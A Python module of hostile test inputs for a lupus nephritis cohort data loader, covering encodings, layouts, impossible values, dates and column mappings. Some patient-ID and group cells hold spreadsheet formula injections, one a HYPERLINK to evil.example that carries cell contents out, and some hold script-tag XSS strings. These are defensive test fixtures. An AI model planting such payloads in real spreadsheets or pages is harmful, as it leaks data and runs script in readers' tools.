"""Hostile cases that are text files, values, dates, mappings, file forms and edge cohorts."""

from __future__ import annotations

import io
import json

from . import base as B
from . import builders as X
from .case import DUPLICATE, UNREADABLE, Case, csv_base, loads, refuses, with_change

ALL6 = ((6.0, "All", 6, 2, 4), (12.0, "All", 6, 3, 4))


def _rows(**per_patient) -> list[dict]:
    """Base rows with a column replaced per patient: ``group=[...6 values]``."""
    rows = B.long_rows()
    for key, values in per_patient.items():
        for i, r in enumerate(rows):
            r[key] = values[i // len(B.MONTHS)]
    return rows


def _drop(column: str) -> tuple[str, ...]:
    return tuple(c for c in B.LONG_HEADER if c != column)


def encoding_cases() -> list[Case]:
    korean = _rows(group=["가군"] * 3 + ["나군"] * 3)  # labels no synonym recodes
    french = _rows(group=["réfractaire"] * 3 + ["rechute"] * 3)
    noted = [dict(r, note="ok") for r in B.long_rows()]
    noted[4]["note"] = "@@CP949@@"
    mixed = csv_base(noted, B.LONG_HEADER + ("note",)).encode().replace(
        b"@@CP949@@", "메모".encode("cp949"))
    noted[4]["note"] = "@@BAD@@"
    bad = csv_base(noted, B.LONG_HEADER + ("note",)).encode().replace(b"@@BAD@@", b"\xff\xfe\xfd")
    nul = csv_base().encode().replace(b"PT03", b"PT\x00\x0003")
    kgroups = {"가군": 3, "나군": 3}
    return [
        loads("utf8_bom_csv", "cohort.csv", b"\xef\xbb\xbf" + csv_base().encode(), "encoding",
              ids=B.IDS, rates=ALL6),
        loads("utf16le_bom_tab", "cohort.csv",
              ("\ufeff" + csv_base(korean, sep="\t", newline="\r\n")).encode("utf-16-le"),
              "encoding", groups=kgroups, basis="contract", note="Excel 'Unicode text' export"),
        loads("utf16be_bom_csv", "cohort.csv", ("\ufeff" + csv_base()).encode("utf-16-be"),
              "encoding", ids=B.IDS),
        loads("cp949_korean_values", "cohort.csv", csv_base(korean).encode("cp949"), "encoding",
              groups=kgroups),
        loads("latin1_values", "cohort.csv", csv_base(french).encode("latin-1"), "encoding",
              groups={"réfractaire": 3, "rechute": 3}),
        loads("mixed_encoding", "cohort.csv", mixed, "encoding", ids=B.IDS, basis="judgement",
              note="one CP949 cell in a UTF-8 file: read the rest, never crash"),
        loads("invalid_utf8_bytes", "cohort.csv", bad, "encoding", ids=B.IDS, basis="judgement"),
        refuses("nul_bytes_in_cell", "cohort.csv", nul,
                r"NUL|null (byte|character)|zero byte|control character|" + UNREADABLE, "nul",
                basis="judgement", note="NUL bytes in a non-UTF-16 text mean a damaged file"),
    ]


def shape_cases() -> list[Case]:
    n = len(B.LONG_HEADER)
    title = ("Lupus nephritis cohort - export of 2024-05-01" + "," * (n - 1) + "\n" + "," * (n - 1)
             + "\n")
    text = csv_base()
    lines = text.splitlines(keepends=True)
    blank_inside = "".join(
        line + ("\n" + "," * (n - 1) + "\n" if i in (3, 9) else "") for i, line in enumerate(lines)
    )
    noted = [dict(r, note='first line\nsecond, "quoted" line') for r in B.long_rows()]
    padded = _rows(patient_id=[f"  {i} " for i in B.IDS],
                   group=[f" {g}  " for g in B.GROUPS])
    zero_ids = ("007", "0012", "1e3", "1.50", "00", "PT06")
    formula_ids = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(1,2)", "-3+2",
                   "@SUM(A1:A9)", "=1+1", "PT06")
    script_groups = ["<script>alert(1)</script>"] * 3 + ["<img src=x onerror=alert(1)>"] * 3
    script_ids = (B.SENTINEL_ID, "<b>PT02</b>", "PT03", "</td><td>PT04", "PT05", "PT06")
    emoji_ids = ("😀-01", "PT02", "\u202eRLO03", "PT04", "مريض-05", "PT06")
    long_id = ("P" * 10_000,) + B.IDS[1:]
    return [
        loads("semicolon_decimal_comma", "cohort.csv",
              csv_base(sep=";", decimal=",", newline="\r\n").encode(), "delimiter",
              values=(("PT02", 6.0, "upcr", 1.1), ("PT04", 0.0, "albumin", 3.4)), rates=ALL6),
        loads("tab_separated", "cohort.tsv", csv_base(sep="\t").encode(), "delimiter",
              values=(("PT03", 12.0, "creatinine", 1.2),)),
        loads("pipe_delimited", "cohort.csv", csv_base(sep="|").encode(), "delimiter",
              ids=B.IDS),
        loads("title_rows", "cohort.csv", (title + text).encode(), "layout", rates=ALL6),
        loads("trailing_notes", "cohort.csv",
              (text + "," * (n - 1) + "\nNote: creatinine in mg/dL" + "," * (n - 1)
               + "\nExported by EMR v2\n").encode(), "layout", ids=B.IDS, rates=ALL6),
        loads("blank_rows_inside", "cohort.csv", blank_inside.encode(), "layout", ids=B.IDS),
        loads("cr_only_newlines", "cohort.csv", csv_base(newline="\r").encode(), "layout",
              ids=B.IDS, basis="judgement"),
        loads("quoted_newlines", "cohort.csv", csv_base(noted, B.LONG_HEADER + ("note",)).encode(),
              "layout", ids=B.IDS),
        loads("whitespace_padded", "cohort.csv", csv_base(padded).encode(), "layout", ids=B.IDS,
              groups=B.GROUP_COUNTS, basis="judgement", note="cells are stripped of spaces"),
        loads("leading_zero_ids", "cohort.csv", csv_base(_rows(patient_id=zero_ids)).encode(),
              "ids", ids=zero_ids, note="IDs are text even when they look like numbers"),
        loads("formula_ids", "cohort.csv", csv_base(_rows(patient_id=formula_ids)).encode(),
              "injection", ids=formula_ids, basis="issue",
              note="kept as text, never evaluated; exports neutralise them"),
        loads("script_labels", "cohort.csv",
              csv_base(_rows(group=script_groups, patient_id=script_ids)).encode(), "injection",
              ids=script_ids, groups={"<script>alert(1)</script>": 3,
                                      "<img src=x onerror=alert(1)>": 3}, basis="issue"),
        loads("emoji_rtl", "cohort.csv",
              csv_base(_rows(patient_id=emoji_ids, group=["مقاوم"] * 3 + ["עמיד"] * 3)).encode(),
              "unicode", ids=emoji_ids, groups={"مقاوم": 3, "עמיד": 3}, basis="issue"),
        loads("very_long_id", "cohort.csv", csv_base(_rows(patient_id=long_id)).encode(),
              "ids", ids=long_id, basis="judgement", note="10,000 characters: under the cell limit"),
        loads("huge_numbers_passthrough", "cohort.csv",
              csv_base(_rows(ldh=[1e308, -1e308, 5e-324, 1e308, 0.0, 1.0])).encode(), "values",
              basis="judgement", note="extreme floats in an extra lab: analyses must not crash"),
        loads("many_groups", "cohort.csv",
              csv_base(_rows(group=[f"g{i:02d}" for i in range(6)])).encode(), "edge",
              groups={f"g{i:02d}": 1 for i in range(6)}, rates=ALL6),
    ]


def value_cases() -> list[Case]:
    rows = B.long_rows()
    dup = rows[:8] + [with_change(rows, 7, upcr=3.5)[7]] + rows[8:]
    same = rows[:8] + [dict(rows[7])] + rows[8:]
    return [
        refuses("impossible_upcr", "cohort.csv", csv_base(with_change(rows, 4, upcr=999)).encode(),
                r"upcr.*999|999.*upcr", "impossible_value"),
        refuses("negative_creatinine", "cohort.csv",
                csv_base(with_change(rows, 8, creatinine=-1.2)).encode(),
                r"creatinine.*-1\.2|-1\.2.*creatinine", "impossible_value"),
        refuses("infinite_upcr", "cohort.csv", csv_base(with_change(rows, 4, upcr="inf")).encode(),
                r"upcr", "impossible_value", basis="judgement"),
        refuses("age_200", "cohort.csv", csv_base(_rows(age=[34, 41, 29, 200, 23, 38])).encode(),
                r"age.*200|200.*age", "impossible_value"),
        refuses("unknown_isn_class", "cohort.csv",
                csv_base(_rows(isn_class=["IV", "VII", "III", "V", "IV", "V"])).encode(),
                r"VII", "impossible_value", note="clinical-rules §4: VII is an error"),
        refuses("non_numeric_lab", "cohort.csv",
                csv_base(with_change(rows, 5, albumin="abc")).encode(), r"abc", "non_numeric",
                basis="judgement", note="text in a number column is named, not silently dropped"),
        loads("na_markers", "cohort.csv",
              csv_base(with_change(with_change(rows, 4, upcr="NA"), 7, upcr="#N/A")).encode(),
              "values", values=(("PT02", 6.0, "upcr", float("nan")),
                                ("PT03", 6.0, "upcr", float("nan"))), basis="judgement"),
        refuses("conflicting_duplicate_visit", "cohort.csv", csv_base(dup).encode(), DUPLICATE,
                "duplicate_visit"),
        loads("identical_duplicate_visit", "cohort.csv", csv_base(same).encode(), "values",
              warning=DUPLICATE, ids=B.IDS),
        refuses("patient_field_conflict", "cohort.csv",
                csv_base(with_change(rows, 10, sex="M")).encode(), r"sex", "patient_conflict"),
        refuses("upcr_mg_g_no_unit", "cohort.csv",
                csv_base([dict(r, upcr=r["upcr"] * 1000) for r in rows]).encode(), r"unit",
                "missing_unit", note="contract §2: mg/g vs mg/mmol differ by 8.8; ask"),
        loads("upcr_mg_g_mapping_unit", "cohort.csv",
              csv_base([dict(r, upcr=round(r["upcr"] * 1000)) for r in rows]).encode(), "units",
              mapping={"units": {"upcr": "mg/g"}}, values=(("PT02", 6.0, "upcr", 1.1),),
              rates=ALL6),
        loads("albumin_g_per_l_guess", "cohort.csv",
              csv_base([dict(r, albumin=round(r["albumin"] * 10)) for r in rows]).encode(),
              "units", warning=r"albumin", values=(("PT04", 0.0, "albumin", 3.4),)),
        refuses("missing_patient_id_column", "cohort.csv",
                csv_base(columns=_drop("patient_id")).encode(), r"patient|ID", "missing_column"),
        refuses("missing_month_column", "cohort.csv", csv_base(columns=_drop("month")).encode(),
                r"month|visit|time|date", "missing_column"),
    ]


def _dated(render) -> str:
    rows = B.long_rows()
    for i, r in enumerate(rows):
        p, m = divmod(i, 3)
        r["start_date"], r["visit_date"] = render(B.START[p]), render(B.visit_date(p, m))
    header = tuple(c for c in B.LONG_HEADER if c != "month") + ("start_date", "visit_date")
    return csv_base(rows, header)


def date_cases() -> list[Case]:
    checks = (("PT02", B.date_month(1), "upcr", 1.1), ("PT06", B.date_month(2), "upcr", 4.5),
              (B.SENTINEL_ID, 0.0, "upcr", 3.2))
    kw = dict(values=checks, rates=ALL6)
    mixed_i = iter(range(10_000))
    bad = _dated(lambda d: d.isoformat()).replace(B.visit_date(1, 1).isoformat(), "2023-02-30")
    epoch = __import__("datetime").date(1899, 12, 30)
    rows = B.long_rows()
    header = [c for c in B.LONG_HEADER if c != "month"] + ["start_date", "visit_date"]
    sheet = [header] + [
        [r[c] for c in header[:-2]] + [X.ExcelDate((B.START[i // 3] - epoch).days),
                                       X.ExcelDate((B.visit_date(i // 3, i % 3) - epoch).days)]
        for i, r in enumerate(rows)
    ]
    return [
        loads("dates_iso", "cohort.csv", _dated(lambda d: d.isoformat()).encode(), "dates", **kw),
        loads("dates_dotted", "cohort.csv", _dated(lambda d: d.strftime("%Y.%m.%d")).encode(),
              "dates", basis="judgement", **kw),
        loads("dates_compact", "cohort.csv", _dated(lambda d: d.strftime("%Y%m%d")).encode(),
              "dates", basis="judgement", note="yyyymmdd, common in Korean EMR exports", **kw),
        loads("dates_dmy_slash", "cohort.csv", _dated(lambda d: d.strftime("%d/%m/%Y")).encode(),
              "dates", basis="judgement", note="day-first is visible (days above 12)", **kw),
        loads("dates_iso_datetime", "cohort.csv",
              _dated(lambda d: d.strftime("%Y-%m-%d 00:00:00")).encode(), "dates", **kw),
        loads("dates_mixed_formats", "cohort.csv",
              _dated(lambda d: d.isoformat() if next(mixed_i) % 2 else d.strftime("%Y.%m.%d"))
              .encode(), "dates", basis="judgement", **kw),
        loads("dates_excel_native", "cohort.xlsx", X.xlsx({"Cohort": sheet}), "dates", **kw),
        refuses("invalid_date", "cohort.csv", bad.encode(), r"2023-02-30|date", "invalid_date"),
    ]


def edge_cases() -> list[Case]:
    rows = B.long_rows()
    cr_all = [dict(r, response="CR" if r["month"] else "NR") for r in rows]
    return [
        loads("single_patient", "cohort.csv", csv_base(rows[:3]).encode(), "edge", n_patients=1,
              n_visits=3, rates=((6.0, "All", 1, 1, 1),), note="analyses skip with notes"),
        loads("one_group", "cohort.csv", csv_base(_rows(group=["refractory"] * 6)).encode(),
              "edge", groups={"refractory": 6}, rates=ALL6),
        loads("no_group_column", "cohort.csv", csv_base(columns=_drop("group")).encode(), "edge",
              rates=ALL6),
        loads("no_followup", "cohort.csv", csv_base([r for r in rows if r["month"] == 0]).encode(),
              "edge", n_visits=6),
        loads("all_responders", "cohort.csv", csv_base(cr_all).encode(), "edge",
              rates=((6.0, "All", 6, 6, 6), (12.0, "All", 6, 6, 6))),
        loads("no_responders", "cohort.csv", csv_base(_rows(response=["NR"] * 6)).encode(),
              "edge", rates=((6.0, "All", 6, 0, 0), (12.0, "All", 6, 0, 0))),
        loads("no_response_column", "cohort.csv", csv_base(columns=_drop("response")).encode(),
              "edge", note="responses derived under kdigo2024"),
        loads("negative_months", "cohort.csv",
              csv_base(rows + [dict(r, month=-2) for r in rows if r["month"] == 0]).encode(),
              "edge", n_visits=24, rates=ALL6),
    ]


def form_cases() -> list[Case]:
    header, wide = B.wide_rows()
    unit_header = [
        h if not h.startswith("upcr_m") else
        "uPCR, mg/mmol (baseline)" if h == "upcr_m0" else f"uPCR, mg/mmol (month {h[6:]})"
        for h in header
    ]
    up = [header.index(f"upcr_m{m}") for m in B.MONTHS]
    wide_mmol = [[v * 113.12 if j in up else v for j, v in enumerate(r)] for r in wide]
    long_header, long_body = B.table(B.long_rows())
    pat = [list(B.PATIENT_COLS)] + [[r[c] for c in B.PATIENT_COLS] for r in B.long_rows()[::3]]
    vis_cols = ["patient_id"] + [c for c in B.LONG_HEADER if c not in B.PATIENT_COLS]
    vis = [vis_cols] + [[r[c] for c in vis_cols] for r in B.long_rows()]
    workbook = X.xlsx({"patients": pat, "visits": vis})
    titled = X.xlsx({"Export": [["Lupus nephritis cohort export"], [], long_header, *long_body]})
    formula_ids = ('=HYPERLINK("http://evil.example","x")', "+1+1", "PT03", "PT04", "PT05", "PT06")
    fbody = [[formula_ids[i // 3]] + r[1:] for i, r in enumerate(long_body)]
    import pyarrow as pa
    import pyarrow.parquet as pq

    cols = {c: [r[c] for r in B.long_rows()] for c in B.LONG_HEADER}
    pbuf = io.BytesIO()
    pq.write_table(pa.table(cols), pbuf)
    check = (("PT02", 6.0, "upcr", 1.1),)
    return [
        loads("wide_form", "cohort.csv", X.delimited(header, wide).encode(), "form",
              values=check, rates=ALL6),
        loads("wide_unit_headers", "cohort.csv", X.delimited(unit_header, wide_mmol).encode(),
              "form", values=check, note="contract §1: unit and time point in the header"),
        loads("xlsx_workbook", "cohort.xlsx", workbook, "form", ids=B.IDS, rates=ALL6),
        loads("xlsx_title_row", "cohort.xlsx", titled, "layout", ids=B.IDS),
        loads("xlsx_named_xls", "cohort.xls", workbook, "form", ids=B.IDS, basis="judgement",
              note="content decides the format, not the extension"),
        loads("xlsx_formula_text_ids", "cohort.xlsx",
              X.xlsx({"Cohort": [long_header, *fbody]}), "injection", ids=formula_ids,
              basis="issue"),
        loads("parquet_valid", "cohort.parquet", pbuf.getvalue(), "form", ids=B.IDS, rates=ALL6),
    ]


def mapping_cases() -> list[Case]:
    data = csv_base().encode()
    k_header = ("환자번호", "전환사유", "ISN분류", "성별", "연령(세)", "방문월", "UPCR(mg/g)",
                "크레아티닌", "알부민", "항dsDNA", "C3", "C4", "신반응", "LDH")
    recode = {"refractory": "불응성", "relapse": "재발성", "F": "여", "M": "남", "CR": "완전관해",
              "PR": "부분관해", "NR": "무반응"}
    k_rows = [[recode.get(v, v) if isinstance(v, str) else v for v in row]
              for row in B.table(B.long_rows())[1]]
    for row in k_rows:
        row[6] = round(row[6] * 1000)
    k_text = X.delimited(k_header, k_rows, sep=";", decimal=",", newline="\r\n")
    k_map = {
        "columns": dict(zip(k_header[:-1], B.LONG_HEADER[:-1], strict=True)),  # LDH passes through
        "units": {"upcr": "mg/g"},
        "values": {"group": {"불응성": "refractory", "재발성": "relapse"},
                   "sex": {"여": "F", "남": "M"}},
    }
    valid = json.dumps({"columns": {"patient_id": "patient_id"}}).encode()
    return [
        refuses("mapping_bad_json", "cohort.csv", data, r"JSON", "mapping",
                mapping=b'{"columns": {"ID": "patient_id",'),
        refuses("mapping_not_object", "cohort.csv", data, r"JSON|object|mapping|columns",
                "mapping", mapping=b"[1, 2, 3]"),
        # "upcrr" would be a measure the user names (data-contract §3; a warning asks
        # whether upcr was meant): a target that is no name at all is refused
        refuses("mapping_unknown_field", "cohort.csv", data, r"UPCR rr", "mapping",
                mapping={"columns": {"upcr": "UPCR rr"}}),
        refuses("mapping_unknown_unit", "cohort.csv", data, r"furlongs", "mapping",
                mapping={"units": {"upcr": "furlongs"}}),
        loads("mapping_utf8_bom", "cohort.csv", data, "mapping", mapping=b"\xef\xbb\xbf" + valid,
              ids=B.IDS, basis="judgement", note="Windows editors save JSON with a BOM"),
        loads("mapping_korean_cp949", "cohort.csv", k_text.encode("cp949"), "mapping",
              mapping=k_map, groups=B.GROUP_COUNTS, values=(("PT02", 6.0, "upcr", 1.1),),
              rates=ALL6),
    ]


def more_cases() -> list[Case]:
    return [*encoding_cases(), *shape_cases(), *value_cases(), *date_cases(), *edge_cases(),
            *form_cases(), *mapping_cases()]
